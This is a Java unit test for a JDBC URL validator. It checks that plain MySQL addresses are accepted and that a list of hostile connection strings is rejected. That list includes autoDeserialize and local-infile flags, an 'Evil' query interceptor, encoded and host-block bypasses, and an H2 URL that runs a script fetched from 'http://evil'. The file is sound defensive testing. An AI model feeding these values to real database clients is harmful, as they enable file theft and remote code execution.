package dev.podium.domain.connection;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.podium.domain.problem.RefusedException;
import dev.podium.domain.secret.Grants;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcAddressTest {

  private static final Set<String> MYSQL = Set.of("mysql");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:mysql://db",
        "jdbc:mysql://db.example.com:3306/shop",
        "jdbc:mysql://127.0.0.1:3306/",
        "jdbc:mysql://[::1]:3306/shop?sslMode=REQUIRED&connectTimeout=1000",
        "jdbc:mysql://db/shop?SSLMODE=REQUIRED&connectionTimeZone=Europe/Berlin"
      })
  void plainAddressesAreTaken(String url) {
    assertThat(JdbcAddress.check(url, MYSQL)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "mysql://db/shop",
        "jdbc:mysql://",
        "jdbc:mysql://db/shop?allowLoadLocalInfile=true",
        "jdbc:mysql://db/shop?ALLOWLOADLOCALINFILE=true",
        "jdbc:mysql://db/shop?sslMode=REQUIRED&autoDeserialize=true",
        "jdbc:mysql://db/shop?allowUrlInLocalInfile=true",
        "jdbc:mysql://db/shop?allowMultiQueries=true",
        "jdbc:mysql://db/shop?queryInterceptors=com.example.Evil",
        "jdbc:mysql://db/shop?%61utoDeserialize=true",
        "jdbc:mysql://db/shop?user=root",
        "jdbc:mysql://db/shop?password=x",
        "jdbc:mysql://root:x@db/shop",
        "jdbc:mysql://(host=db,autoDeserialize=true)/shop",
        "jdbc:mysql://address=(host=db)(autoDeserialize=true)/shop",
        "jdbc:mysql://db1,db2/shop",
        "jdbc:mysql:loadbalance://db/shop",
        "jdbc:mysql+srv://db/shop",
        "jdbc:mysql://db/shop#x",
        "jdbc:mysql://db/shop?a=b;c",
        "jdbc:mysql://db/shop\n?x",
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:postgresql://db/shop"
      })
  void everythingElseIsNot(String url) {
    assertThat(JdbcAddress.check(url, MYSQL)).isPresent();
  }

  @Test
  void otherSchemesAreTakenWhereTheInstallationAllowsThem() {
    Set<String> both = Set.of("mysql", "postgresql");

    assertThat(JdbcAddress.check("jdbc:postgresql://db/shop?ssl=true", both)).isEmpty();
    assertThat(JdbcAddress.check("jdbc:postgresql://db/shop?password=x", both)).isPresent();
    assertThat(JdbcAddress.check("jdbc:postgresql://u:p@db/shop", both)).isPresent();
  }

  @Test
  void serversAreComparedByHostAndPort() {
    assertThat(JdbcAddress.mysqlServer("jdbc:mysql://DB/x")).contains("db:3306");
    assertThat(JdbcAddress.mysqlServer("jdbc:mysql://db:3306/y?sslMode=REQUIRED"))
        .contains("db:3306");
    assertThat(JdbcAddress.mysqlServer("jdbc:h2:mem:x")).isEmpty();
  }

  @Test
  void everyProblemOfADraftIsToldAtOnce() {
    ConnectionDraft draft =
        new ConnectionDraft(
            "1 x", "a\nb", new ConnectionTarget.Database("nowhere", " "), Grants.NONE);

    assertThatThrownBy(() -> draft.requireValid(MYSQL, "x".repeat(2_000)))
        .isInstanceOfSatisfying(
            RefusedException.class,
            refused ->
                assertThat(refused.problems())
                    .extracting(problem -> problem.path())
                    .containsExactly("name", "description", "url", "user", "password"));
  }
}
